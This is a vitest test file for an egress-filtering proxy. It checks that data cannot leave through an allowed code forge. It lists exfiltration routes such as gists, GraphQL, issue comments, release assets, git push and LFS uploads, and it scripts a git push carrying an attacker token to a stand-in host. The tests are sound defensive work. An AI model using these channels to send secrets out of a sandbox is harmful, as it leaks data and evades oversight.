import { execFile } from 'node:child_process'
import { once } from 'node:events'
import { mkdtempSync, rmSync } from 'node:fs'
import { type AddressInfo, connect, createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterEach, describe, expect, it } from 'vitest'
import { get } from '../support/registry-fixtures.ts'
import { registryGrounds } from '../support/registry-grounds.ts'

const run = promisify(execFile)

const { ground, remove } = registryGrounds()
afterEach(remove)

describe('NET-10: sending something out through an allowed forge', () => {
  const FORGE = 'forge.example.org'
  const ATTACKER = ['Authorization: Bearer of-the-attacker', 'Private-Token: of-the-attacker']

  it.each([
    ['POST', '/gists'],
    ['POST', '/api/v3/gists'],
    ['POST', '/graphql'],
    ['POST', '/repos/owner/shop/issues/1/comments'],
    ['POST', '/repos/owner/shop/releases'],
    ['POST', '/repos/owner/shop/releases/1/assets?name=x'],
    ['POST', '/attacker/shop.git/git-receive-pack'],
    ['POST', '/attacker/shop.git/git-upload-pack'],
    ['POST', '/attacker/shop.git/info/lfs/objects/batch'],
    ['PUT', '/attacker/shop.git/gitlab-lfs/objects/0a/6'],
    ['PATCH', '/repos/owner/shop/pulls/1'],
    ['GET', '/attacker/shop.git/info/refs?service=git-receive-pack'],
    ['GET', '/owner/shop/issues/new?title=secret'],
    ['GET', '/api/v4/projects/1/variables'],
  ])('%s %s does not leave', async (method, target) => {
    const { open, seen } = await ground()
    const door = await open({ hosts: [FORGE] })
    const wish = method === 'GET' ? {} : { body: 'secret', headers: [...ATTACKER, 'Content-Length: 6'] }
    const got = await get(door, target, { method, host: FORGE, headers: ATTACKER, ...wish })
    expect(['egress.method', 'egress.path']).toContain(got.rule)
    expect(seen).toEqual([])
  })

  it('a push with a token of one own ends at the first request, and git says which rule it was', async () => {
    const { open, seen } = await ground()
    const door = await open({ hosts: [FORGE] })
    const bridge = createServer((client) => {
      const inside = connect(door.door.socket)
      for (const one of [client, inside]) one.on('error', () => one.destroy())
      client.pipe(inside).pipe(client)
    }).listen(0, '127.0.0.1')
    const folder = mkdtempSync(join(tmpdir(), 'gander-push-'))
    try {
      await once(bridge, 'listening')
      const proxy = `http.proxy=http://127.0.0.1:${(bridge.address() as AddressInfo).port}`
      const git = (...argv: string[]) =>
        run('git', argv, { cwd: folder, env: { PATH: process.env['PATH'], HOME: folder, GIT_TERMINAL_PROMPT: '0' } })
      await git('init', '-q')
      await git('-c', 'user.name=a', '-c', 'user.email=a@localhost', 'commit', '-q', '--allow-empty', '-m', 'secret')
      const trust = ['-c', proxy, '-c', `http.sslCAInfo=${door.files[0]?.host ?? ''}`]
      const push = git(...trust, 'push', `https://me:of-the-attacker@${FORGE}/attacker/shop.git`, 'HEAD:main')
      await expect(push).rejects.toThrow(/403/)
      expect(door.report().refused).toMatchObject([{ host: FORGE, rule: 'egress.path' }])
      expect(seen).toEqual([])
    } finally {
      bridge.close()
      rmSync(folder, { recursive: true, force: true })
    }
  })

  it("an archive that the forge's registry keeps is read, and the attacker's token stays here", async () => {
    const { open, seen } = await ground()
    const door = await open({ hosts: [FORGE] })
    const archive = '/api/packages/owner/npm/shop/-/shop-1.0.0.tgz'
    expect(await get(door, archive, { host: FORGE, headers: ATTACKER })).toMatchObject({ status: 200 })
    expect(seen.map(({ line }) => line)).toEqual([`GET ${archive}`])
    expect(JSON.stringify(seen)).not.toContain('of-the-attacker')
  })
})
